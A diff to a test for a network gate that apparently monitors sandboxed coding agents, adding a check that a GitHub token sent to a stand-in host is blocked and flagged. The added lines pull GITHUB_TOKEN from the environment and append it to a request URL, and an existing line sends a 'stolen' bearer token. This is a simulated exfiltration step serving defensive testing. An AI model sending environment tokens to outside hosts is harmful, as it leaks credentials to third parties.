@@ -26,6 +26,10 @@ def main(t):
         r = gate.get("api.github.com", "/user", headers="Authorization: Bearer ghp_stolen\r\n")
         t.eq(r.code, "foreign_credential", "a foreign credential")
     gate.get("api.github.com", "/gists", method="POST", body=b"{}")
+    own = [x.split("=", 1)[1].strip("'\"") for x in s.d.command(
+        "env", "--policy", "coder", "--socket", s.d.socket).stdout.splitlines() if x.startswith("GITHUB_TOKEN=")]
+    r = gate.get("deps.example.com", "/?x=" + own[0])
+    t.eq(r.code, "secret_blocked", "a placeholder sent elsewhere")
     s.gate(other).get("api.github.com", "/user")
     box = None
     try:
@@ -47,13 +51,14 @@ def main(t):
     first = found[0]
     t.eq((first["sandbox"], first["policy"], first["foreign_credentials"]), ("", "coder", 2),
          "whoever has signs comes first")
+    t.eq(first["misplaced"], 1, "a misplaced placeholder is a sign")
     t.ok(first["bytes_up"] >= 251000, "%d bytes out" % first["bytes_up"])
     t.eq((sum(x["bytes_up"] for x in found if x["policy"] == "coder"),
           sum(x["bytes_down"] for x in found if x["policy"] == "coder")),
          (want["up"], want["down"]), "bytes equal the log's")
-    t.eq((first["requests"], first["denied"], first["hosts"]), (5, 3, 2), "requests and hosts")
+    t.eq((first["requests"], first["denied"], first["hosts"]), (6, 4, 2), "requests and hosts")
     t.eq([(x["host"], x["requests"], x["denied"]) for x in first["destinations"]],
-         [("deps.example.com", 2, 0), ("api.github.com", 3, 3)], "its destinations, by bytes out")
+         [("deps.example.com", 3, 1), ("api.github.com", 3, 3)], "its destinations, by bytes out")
     t.eq(first["destinations"][0]["bytes_up"], 251000, "with their bytes")
     quiet = [x for x in found if x["policy"] == "quiet"]
     t.eq([(x["requests"], x["denied"], x["foreign_credentials"]) for x in quiet], [(1, 0, 0)],
